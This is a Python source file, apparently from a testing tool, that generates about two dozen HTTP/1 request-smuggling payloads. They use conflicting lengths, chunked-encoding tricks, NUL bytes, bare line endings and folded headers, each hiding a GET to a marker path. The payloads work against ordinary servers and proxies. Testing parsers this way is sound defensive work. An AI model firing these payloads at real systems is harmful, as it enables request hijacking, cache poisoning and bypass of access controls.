"""The ways to hide a request in another over HTTP/1: all that readers have been known to disagree on.

Each asks for an address of its own, so that one look at what came to Sofa tells which of them got through."""

from forms import FORM


def address(name):
    return "/hidden.txt?" + name.replace(" ", "-")


def hidden_requests(host):
    """By what they do: a request that a careless reader takes for the body of another, or the other way round."""
    post = f"POST / HTTP/1.1\r\nHost: {host}\r\nContent-Type: {FORM['Content-Type']}\r\n".encode()
    chunked = b"Transfer-Encoding: chunked\r\n"

    def attack(name, lines, before=b"", start=post, isChunk=False):
        hidden = f"GET {address(name)} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
        body = before + hidden
        if isChunk:
            body = b"%x\r\n%s\r\n0\r\n\r\n" % (len(hidden), hidden)
        return start + lines.replace(b"LENGTH", b"%d" % len(body)) + b"\r\n" + body

    end = b"0\r\n\r\n"
    get = f"GET / HTTP/1.1\r\nHost: {host}\r\n".encode()
    length = b"Content-Length: LENGTH\r\n"
    rows = [
        ("two lengths", b"Content-Length: 3\r\n" + length, b"a=b"),
        ("a list of lengths", b"Content-Length: 3, LENGTH\r\n", b"a=b"),
        ("a length with a sign", b"Content-Length: +3\r\n", b"a=b"),
        ("a negative length", b"Content-Length: -1\r\n", b""),
        ("a length beyond counting", b"Content-Length: 18446744073709551615\r\n", b""),
        ("length and chunks", length + chunked, end),
        ("two codings", length + chunked + b"Transfer-Encoding: identity\r\n", end),
        ("a coding nobody knows", length + b"Transfer-Encoding: xchunked\r\n", end),
        ("space before the colon of the length", b"Content-Length : LENGTH\r\n", b""),
        ("space before the colon of the coding", length + b"Transfer-Encoding : chunked\r\n", end),
        ("NUL in the name of the length", b"Content-Length\0: LENGTH\r\n", b""),
        ("NUL in a value", b"X-A: b\0c\r\nContent-Length: 0\r\n", b""),
        ("folded length", b"X-A: b\r\n Content-Length: 0\r\n" + length, b""),
        ("folded coding", length + b"Transfer-Encoding:\r\n chunked\r\n", end),
        ("bare LF before a length", b"X-A: b\nContent-Length: 0\r\n" + length, b""),
        ("bare CR before a length", b"X-A: b\rContent-Length: LENGTH\r\n", b""),
        ("a chunk's size with 0x", chunked, b"0x3\r\na=b\r\n" + end),
        ("a chunk's size beyond counting", chunked, b"10000000000000003\r\na=b\r\n" + end),
        ("a negative chunk", chunked, b"-3\r\na=b\r\n" + end),
        ("bare LF in a chunk's extension", chunked, b"3;a=\nb\r\na=b\r\n" + end),
        ("chunks with bare LF", chunked, b"3\na=b\n0\n\n"),
    ]
    attacks = {name: attack(name, lines, before) for name, lines, before in rows}
    attacks["chunks and length"] = attack("chunks and length", chunked + b"Content-Length: 4\r\n", isChunk=True)
    attacks["GET with a body"] = attack("GET with a body", length, start=get)
    attacks["GET with chunks"] = attack("GET with chunks", chunked, start=get, isChunk=True)
    attacks["NUL in the target"] = attack("NUL in the target", b"", start=get.replace(b"GET / ", b"GET /\0 "))
    attacks["bare LF in the whole head"] = attack("bare LF in the whole head", length).replace(
        b"\r\n", b"\n", (post + length).count(b"\r\n") + 1)
    attacks["chunks in HTTP 1.0"] = attack(
        "chunks in HTTP 1.0", length + chunked, end, start=post.replace(b"1.1", b"1.0", 1))
    return attacks
